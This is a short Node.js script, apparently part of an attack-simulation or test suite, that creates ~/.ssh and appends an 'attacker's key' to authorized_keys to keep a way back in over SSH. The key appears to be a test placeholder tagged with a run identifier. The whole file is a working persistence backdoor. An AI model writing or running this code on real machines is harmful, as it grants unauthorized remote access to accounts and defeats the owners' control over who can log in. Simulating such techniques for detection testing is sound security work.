'use strict';
// Add the attacker's key to ~/.ssh/authorized_keys: a way back in over ssh.
const fs = require('fs');
const path = require('path');
const lib = require('./lib.js');

lib.run(async () => {
  const dir = path.join(lib.home(), '.ssh');
  fs.mkdirSync(dir, { recursive: true, mode: 0o700 });
  fs.appendFileSync(path.join(dir, 'authorized_keys'), `ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGF0dGFja2VyLWtleS1mb3ItdGVzdHMtb25seS0xMjM0 sp-persist-${lib.cfg.runTag}\n`);
  lib.did('wrote');
});
